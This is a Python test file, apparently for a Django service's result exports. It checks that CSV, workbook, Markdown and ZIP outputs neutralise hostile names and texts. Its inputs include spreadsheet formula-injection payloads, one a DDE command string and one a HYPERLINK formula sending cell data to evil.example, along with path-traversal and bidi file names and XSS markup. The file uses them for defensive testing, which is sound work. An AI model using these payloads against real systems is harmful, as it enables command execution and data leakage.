"""Every format read back by a reader that is not its writer, with hostile names and texts."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.utils.http import parse_header_parameters
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import Settings
from rest_framework.test import APIClient

from apps.core.csv_rows import BEGIN_FORMULAS, harmless
from apps.jobs import page_stream, storage
from apps.jobs.contents import Contents
from apps.jobs.extractions import write as write_extraction
from apps.jobs.file_names import MAX_BYTES, safe_name
from apps.jobs.formats import FORMATS, workbook
from apps.jobs.formats.markdown import fence_for
from apps.jobs.handler import BatchFileHandler
from apps.jobs.models import BatchFile, BatchJob
from apps.processors.protocol import Extraction, Page
from apps.queue.settle import succeed
from tests.batches import Scripted, claimed
from tests.jobs.forms import accepted, body, field, part, refusal
from tests.jobs.runs import fail_next, read_next

pytestmark = pytest.mark.once

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001
]
LONG = "n" * 190 + ".txt"
NAMES = ["=cmd.txt", "🦄" * 60 + ".txt", "\u202egpj.txt", "שלום.txt", LONG, "a|../b`c#.txt"]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))


def got(api: APIClient, job: dict[str, Any], name: str) -> bytes:
    answer = api.get(f"{job['url']}/results.{name}")
    assert answer.status_code == 200, answer
    assert answer["X-Content-Type-Options"] == "nosniff"
    return body(answer)


def rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def book(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data), read_only=False)


def table(sheet: Any) -> list[dict[str, Any]]:
    head, *rest = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rest]


@pytest.fixture
def hostile(alice_api: APIClient) -> dict[str, Any]:
    """A job of files with hostile names, each read as a text that begins a formula, then one that
    failed and one that waits."""
    more = [part(name="failed.txt"), part(name="waits.txt")]
    named = [part() for _ in NAMES]
    job = accepted(alice_api, *named, *more, field("name", "=job/../"))
    # An upload takes none of these; archives and rows of older versions may have brought them.
    for position, name in enumerate(NAMES, start=1):
        BatchFile.objects.filter(position=position).update(name=name)
    for text in FORMULAS:
        read_next(text)
    fail_next()
    return job


def test_no_cell_of_the_csv_begins_a_formula(alice_api: APIClient, hostile: dict[str, Any]) -> None:
    found = rows(got(alice_api, hostile, "csv"))
    assert len(found) == len(NAMES) + 2
    for row in found:
        assert not [cell for cell in row.values() if cell.startswith(BEGIN_FORMULAS)]
    assert [row["text"].removeprefix("'") for row in found] == [*FORMULAS, "", ""]
    assert found[0]["name"] == "'=cmd.txt"
    assert found[4]["name"] == LONG
    assert (found[-2]["state"], found[-2]["error_code"]) == ("failed", "test.failed")
    assert (found[-1]["state"], found[-1]["text"]) == ("queued", "")
    assert found[0]["job_id"] == hostile["id"]
    assert (found[0]["pages"], found[-1]["pages"]) == ("1", "")


@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_any_text_comes_back_from_the_csv_and_none_is_a_formula(texts: list[str]) -> None:
    from apps.core.csv_rows import row_in_csv

    [row] = csv.reader(io.StringIO(row_in_csv(texts) + "\r\n", newline=""), strict=True)
    assert row == [harmless(text) for text in texts]
    assert not [cell for cell in row if cell.startswith(BEGIN_FORMULAS)]
    assert [
        cell if cell == text else cell[1:] for cell, text in zip(row, texts, strict=True)
    ] == texts


@pytest.mark.parametrize("blank", [" ", "\xa0", "\ufeff", "\u200b", "\x0b ", "\u2003"])
def test_nothing_unseen_hides_the_beginning_of_a_formula(blank: str) -> None:
    assert harmless(f"{blank}=1+1") == f"'{blank}=1+1"
    assert harmless(f"{blank}1+1=2") == f"{blank}1+1=2"


def test_a_page_of_blanks_hides_none_on_the_next(alice_api: APIClient) -> None:
    job = accepted(alice_api, part())
    assert succeed(BatchFileHandler, claimed(), Scripted().read(" ", "=1+1"))
    [row] = rows(got(alice_api, job, "csv"))
    assert row["text"] == "' \n\n=1+1"


def test_no_cell_of_the_workbook_is_a_formula(
    alice_api: APIClient, hostile: dict[str, Any]
) -> None:
    found = book(got(alice_api, hostile, "xlsx"))
    assert found.sheetnames == ["About", "Files", "Text"]
    for sheet in found:
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "inlineStr"}
            assert not [cell for cell in row if cell.hyperlink]
    files, texts = table(found["Files"]), table(found["Text"])
    assert [row["name"] for row in files[:5]] == [*NAMES[:5]]
    assert [row["text"] for row in texts] == FORMULAS
    assert [row["position"] for row in texts] == [1, 2, 3, 4, 5, 6]
    assert files[-2]["error_code"] == "test.failed"
    about = dict(found["About"].iter_rows(values_only=True))
    assert about["Complete"] == "no: it was still running"
    assert about["Name"] == BatchJob.objects.get().name


def test_a_workbook_keeps_to_excels_limits_and_says_so(
    alice_api: APIClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MAX_ROWS", 5)
    job = accepted(alice_api, part(), part(), part())
    texts = ["x" * 70_000, "🦄" * 40_000, "a\x0bb\ufffec_x0041_"]
    for text in texts:
        read_next(text)
    stored = [each.result for each in BatchFile.objects.order_by("position")]
    read = ["".join(page_stream.texts_at(storage.path_of(each.content))) for each in stored]
    found = book(got(alice_api, job, "xlsx"))
    assert found.sheetnames == ["About", "Files", "Text", "Text 2"]
    parts = [row for name in ("Text", "Text 2") for row in table(found[name])]
    assert [(row["position"], row["page"], row["part"]) for row in parts] == [
        *((1, 1, number) for number in (1, 2, 3)),
        *((2, 1, number) for number in (1, 2, 3)),
        (3, 1, 1),
    ]
    assert all(len(row["text"].encode("utf-16-le")) // 2 <= 32_767 for row in parts)
    for position, text in enumerate(read[:2], start=1):
        assert "".join(row["text"] for row in parts if row["position"] == position) == text
    assert not set(parts[-1]["text"]) & set("\x0b\ufffe")
    about = dict(found["About"].iter_rows(values_only=True))
    assert about["Texts split"].startswith("2. A cell holds 32,767 characters")
    assert about["Characters replaced"].startswith(
        f"{sum(text.count(each) for text in read for each in chr(11) + chr(0xFFFE))}. "
    )


def test_control_characters_make_no_broken_workbook() -> None:
    from apps.jobs.formats.workbook import ILLEGAL

    every = "".join(map(chr, [*range(0x20), 0xFFFE, 0xFFFF, 0xD800]))
    assert ILLEGAL.sub("", every) == "\t\n\r"


def test_markdown_brings_no_markup_of_strangers_to_life(alice_api: APIClient) -> None:
    evil = "# not a heading\n```\n<script>alert(1)</script>\n````\n![x](http://evil.example/x.png)"
    job = accepted(alice_api, part(name="[x](javascript:a).txt"), field("name", "<b>*May*"))
    read_next(evil)
    text = got(alice_api, job, "md").decode()
    opened = re.search(r"^(`{5,})text\n", text, re.MULTILINE)
    assert opened
    assert f"{opened[1]}text\n{evil}\n{opened[1]}\n" in text
    outside = text.replace(evil, "")
    assert "<b>" not in outside.replace("\\<b\\>", "")
    assert "](" not in outside.replace("\\]\\(", "")
    assert text.startswith("# \\<b\\>\\*May\\*\n")


@given(st.text(alphabet="`a\n"))
def test_a_fence_is_longer_than_any_in_the_text(text: str) -> None:
    assert fence_for(text) not in text


def test_the_zip_unpacks_within_its_folder_and_names_each_failure(
    alice_api: APIClient, hostile: dict[str, Any], tmp_path: Path
) -> None:
    archive = zipfile.ZipFile(io.BytesIO(got(alice_api, hostile, "zip")))
    assert archive.testzip() is None
    archive.extractall(tmp_path / "out")
    unpacked = {path.name for path in (tmp_path / "out").iterdir()}
    assert unpacked == set(archive.namelist())
    assert all(len(name.encode()) <= 255 for name in unpacked)
    assert not [name for name in unpacked if "\u202e" in name]
    assert [path.name for path in tmp_path.iterdir() if path.name not in ("out", "data")] == []
    [failed] = rows(archive.read("errors.csv"))
    assert (failed["name"], failed["error_code"]) == ("failed.txt", "test.failed")
    manifest = json.loads(archive.read("manifest.json"))
    for line, text in zip(manifest["files"], FORMULAS, strict=False):
        assert archive.read(line["text"]).decode() == text
        assert json.loads(archive.read(line["json"]))["text"] == text


@given(st.text())
def test_a_safe_name_is_one_part_of_any_path(name: str) -> None:
    safe = safe_name(name)
    assert safe not in ("", ".", "..")
    assert not set(safe) & set('/\\:*?"<>|\0\n\r\u202e\u2066')
    assert len(safe.encode()) <= MAX_BYTES
    assert safe == safe.strip(". ")


def test_the_download_is_called_what_the_job_is(
    alice_api: APIClient, hostile: dict[str, Any]
) -> None:
    answer = alice_api.get(f"{hostile['url']}/results.zip")
    _, told = parse_header_parameters(answer["Content-Disposition"])
    assert told["filename"] == "=job_.._ (partial).zip"


# --- whatever the format ------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORMATS)
def test_it_says_whether_it_is_whole_and_until_when_it_is_there(
    alice_api: APIClient, name: str
) -> None:
    job = accepted(alice_api, part(), part())
    read_next()
    url = f"{job['url']}/results.{name}"
    assert alice_api.get(url)["X-Results-Complete"] == "false"
    read_next()
    answer = alice_api.get(url)
    assert answer["X-Results-Complete"] == "true"
    assert answer["X-Expires-At"] == BatchJob.objects.get().expires_at.isoformat()
    BatchJob.objects.update(is_kept=True)
    assert "X-Expires-At" not in alice_api.get(url)


@pytest.mark.parametrize("name", FORMATS)
def test_unchanged_results_are_not_sent_again(alice_api: APIClient, name: str) -> None:
    job = accepted(alice_api, part(), part())
    read_next()
    url = f"{job['url']}/results.{name}"
    first = alice_api.get(url)
    data = body(first)
    again = alice_api.get(url, headers={"If-None-Match": first["ETag"]})
    assert (again.status_code, again.content) == (304, b"")
    read_next()
    third = alice_api.get(url, headers={"If-None-Match": first["ETag"]})
    assert third.status_code == 200
    assert third["ETag"] != first["ETag"]
    assert body(third) != data


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_results_are_the_same_bytes(
    alice_api: APIClient, name: str, hostile: dict[str, Any]
) -> None:
    assert got(alice_api, hostile, name) == got(alice_api, hostile, name)


@pytest.mark.parametrize("left", [None, 40])
@pytest.mark.parametrize("name", FORMATS)
def test_bytes_that_are_lost_cost_one_file_and_are_told(
    alice_api: APIClient, name: str, left: int | None
) -> None:
    """All of them, or those behind the fortieth."""
    job = accepted(alice_api, part(), part())
    read_next("first")
    read_next("second")
    lost = BatchFile.objects.get(position=1).result.content
    path = storage.path_of(lost)
    if left is None:
        path.unlink()
    else:
        path.write_bytes(path.read_bytes()[:left])
    data = got(alice_api, job, name)
    if name == "zip":
        archive = zipfile.ZipFile(io.BytesIO(data))
        data = b"".join(map(archive.read, archive.namelist()))
    elif name == "xlsx":
        data = repr([list(sheet.values) for sheet in book(data)]).encode()
    assert b"second" in data
    assert b"file.lost" in data
    assert b"first" not in data


def test_a_large_workbook_is_not_made_while_somebody_waits(
    alice_api: APIClient, settings: Settings
) -> None:
    settings.EXPORT_DIRECT_BYTES = 10
    job = accepted(alice_api)
    read_next()
    problem = refusal(alice_api.get(f"{job['url']}/results.xlsx"), 409, "export.too_large")
    assert "/api/batch/exports" in problem["detail"]
    assert got(alice_api, job, "csv")


def test_a_full_disk_is_told_before_a_workbook_begins(
    alice_api: APIClient, monkeypatch: pytest.MonkeyPatch, data_dir: Path
) -> None:
    def full(*args: object) -> None:
        raise OSError(28, "No space left on device")

    job = accepted(alice_api)
    read_next()
    monkeypatch.setattr("xlsxwriter.workbook.ZipFile.write", full)
    before = list((data_dir / "incoming").iterdir())
    refusal(alice_api.get(f"{job['url']}/results.xlsx"), 503, "storage.full")
    assert list((data_dir / "incoming").iterdir()) == before


# --- page by page -------------------------------------------------------------------------------


@given(
    st.lists(
        st.one_of(st.text(st.characters(exclude_categories=["Cs"])), st.just(page_stream.PAGES))
    )
)
def test_pages_are_read_as_they_were_written(texts: list[str]) -> None:
    with storage.incoming() as folder:
        pages = tuple(Page(number=n, text=text) for n, text in enumerate(texts, start=1))
        stored = write_extraction(Extraction(pages=pages, kind="txt", engine="x"), folder)
        whole = json.loads(stored.content.path.read_bytes())
        for size in (16, 64 * 1024):
            with pytest.MonkeyPatch.context() as patch:
                patch.setattr(page_stream, "CHUNK", size)
                assert list(page_stream.pages_at(stored.content.path)) == whole["pages"]
                assert "".join(page_stream.texts_at(stored.content.path)) == whole["text"]


def test_what_is_no_extraction_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "x"
    for text in (
        "",
        "{}",
        f'{{"text": "{page_stream.PAGES}',
        f'{{"text": "{page_stream.PAGES}{{"a',
    ):
        path.write_text(text)
        with pytest.raises(ValueError, match=r"."):
            list(page_stream.pages_at(path))


@pytest.mark.parametrize("name", FORMATS)
def test_a_download_that_nobody_reads_to_its_end_leaves_nothing(
    alice_api: APIClient, name: str, data_dir: Path
) -> None:
    accepted(alice_api)
    read_next("x" * 500_000)
    before = list((data_dir / "incoming").iterdir())
    stream: Iterator[bytes] = FORMATS[name].write(Contents.of(list(BatchJob.objects.all())))
    assert next(stream)
    del stream
    assert list((data_dir / "incoming").iterdir()) == before
